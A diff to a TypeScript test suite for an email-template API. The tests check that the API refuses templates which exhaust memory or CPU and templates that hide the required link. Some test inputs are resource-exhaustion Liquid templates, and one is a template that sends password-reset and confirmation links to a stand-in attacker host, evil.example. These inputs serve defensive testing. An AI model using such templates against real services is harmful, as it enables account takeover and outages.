@@ -25,7 +25,7 @@ afterAll(async () => {
   await t.close();
 });
 
-type ApiIssue = { code: string; detail: string; source: { pointer: string }; meta: { reason: string } };
+type ApiIssue = { code: string; detail: string; source: { pointer: string }; meta: { reason: string; near?: string } };
 
 /** Sends a change and a preview of the same text; both must be refused alike, and nothing may change. */
 async function refused(key: string, attributes: Record<string, unknown>, headers: Record<string, string> = {}): Promise<ApiIssue[]> {
@@ -87,16 +87,64 @@ describe('a template that cannot be saved is a 422 that says where, and changes 
     });
   });
 
-  it('keeps the link a security mail exists for, and keeps security mails on', async () => {
-    expect(await refused('confirmation', { body: '<p>Welkom bij {{ center }}! Klik hier: <a href="https://example.nl">bevestigen</a></p>' })).toMatchObject([
-      { source: { pointer: '/data/attributes/body' }, meta: { reason: 'missing_placeholder', name: 'link' }, detail: 'body moet {{ link }} bevatten: daar draait deze mail om.' },
-    ]);
-    expect(await refused('email_change', { body: '<p>Je adres wordt gewijzigd.</p>' })).toMatchObject([{ meta: { reason: 'missing_placeholder' } }]);
+  // liquidjs's limits count elements and characters, not bytes: the first of these ran the API out of heap (every tenant down), the second was a 500.
+  it.each([
+    ['<p>{% assign a = (1..2400000) %}{{ a | sort | first }}</p>', ['{% assign a = (1..2400000) %}', '{{ a | sort | first }}']],
+    ['<p>{% assign a = (1..1000000) %}{{ a | sort | first }}</p>', ['{% assign a = (1..1000000) %}', '{{ a | sort | first }}']],
+    ['<p>{% for i in (1..3000) %}{% for j in (1..3000) %}x{% endfor %}{% endfor %}</p>', ['{% for i in (1..3000) %}', '{% for j in (1..3000) %}']],
+    ['<p>{% assign s = "xxxxxxxxxx" %}{% for i in (1..40) %}{% assign s = s | append: s %}{% endfor %}{{ s }}</p>', ['{% for i in (1..40) %}', '{% assign s = s | append: s %}']],
+  ])('answers %s with 422 template_too_costly and its place, on save, preview and test, and stays up', async (body, places) => {
+    const [error, ...others] = await refused('password_reset', { body });
+    expect(others).toEqual([]);
+    expect(error).toMatchObject({ source: { pointer: '/data/attributes/body' }, meta: { reason: 'template_too_costly', line: 1 } });
+    expect(places).toContain(error!.meta.near);
+    const id = await templateId('password_reset');
+    for (const action of ['preview', 'test']) {
+      const response = await t.request({ method: 'POST', url: `${TEMPLATES}/${id}/${action}`, credentials: centrum, body: doc({ subject: 'Hoi', body }) });
+      expect([action, response.statusCode, response.json().errors[0].meta.reason]).toEqual([action, 422, 'template_too_costly']);
+    }
+    expect(await t.mails()).toEqual([]);
+    expect((await t.request({ url: '/healthz' })).statusCode).toBe(200);
+    const other = await templateId('application_accepted');
+    const preview = await t.request({ method: 'POST', url: `${TEMPLATES}/${other}/preview`, credentials: centrum, body: doc({ subject: 'Hoi', body: '<p>Hallo {{ first_name }}</p>' }) });
+    expect(preview.statusCode).toBe(200);
+  });
+
+  it('keeps the link a mail exists for in the rendered text, not just in the source, and keeps security mails on', async () => {
+    for (const body of [
+      '<p>Vul het formulier in.</p>',
+      '<p>{% if false %}<a href="{{ link }}">{{ link }}</a>{% endif %}</p>',
+      '<p>{% comment %}{{ link }}{% endcomment %}</p>',
+      '<p>{% capture hidden %}{{ link }}{% endcapture %}Vul het formulier in.</p>',
+      '<p>{% if link contains "voorbeeld" %}{% else %}{{ link }}{% endif %}</p>',
+    ]) {
+      expect([body, await refused('form_invitation', { body })]).toMatchObject([
+        body,
+        [{ source: { pointer: '/data/attributes/body' }, meta: { reason: 'missing_placeholder', name: 'link' }, detail: 'body moet {{ link }} bevatten: daar draait deze mail om.' }],
+      ]);
+    }
     for (const key of ['confirmation', 'password_reset', 'invitation', 'email_change', 'already_registered']) {
       expect(await refused(key, { active: false })).toMatchObject([
         { source: { pointer: '/data/attributes/active' }, meta: { reason: 'always_active' }, detail: 'active: deze beveiligingsmail wordt altijd verstuurd en kan niet worden uitgezet.' },
       ]);
     }
+  });
+
+  it('refuses the link or address a security mail’s platform places, with what to do, and a button text where there is none', async () => {
+    for (const key of ['confirmation', 'password_reset', 'invitation', 'already_registered']) {
+      expect(await refused(key, { body: '<p><a href="https://evil.example/c?u={{ link | url_encode }}">Klik</a></p>' })).toMatchObject([
+        {
+          source: { pointer: '/data/attributes/body' },
+          meta: { reason: 'placed_placeholder', placeholder: '{{ link }}' },
+          detail: 'body: {{ link }} zet het platform zelf onder de tekst; haal het hier weg.',
+        },
+      ]);
+    }
+    expect(await refused('password_reset', { subject: 'Reset {{ link }}' })).toMatchObject([{ source: { pointer: '/data/attributes/subject' }, meta: { reason: 'placed_placeholder' } }]);
+    expect(await refused('email_change', { body: '<p>Nieuw: {{ email }}</p>' })).toMatchObject([{ meta: { reason: 'placed_placeholder', placeholder: '{{ email }}' } }]);
+    expect(await refused('application_accepted', { action_text: 'Klik' })).toMatchObject([{ source: { pointer: '/data/attributes/action_text' }, meta: { reason: 'unknown_attribute' } }]);
+    expect(await refused('password_reset', { action_text: '   ' })).toMatchObject([{ source: { pointer: '/data/attributes/action_text' }, meta: { reason: 'required' } }]);
+    expect(await refused('password_reset', { action_text: 'x'.repeat(81) })).toMatchObject([{ source: { pointer: '/data/attributes/action_text' }, meta: { reason: 'too_long' } }]);
   });
 
   it('checks the fields as the form does', async () => {
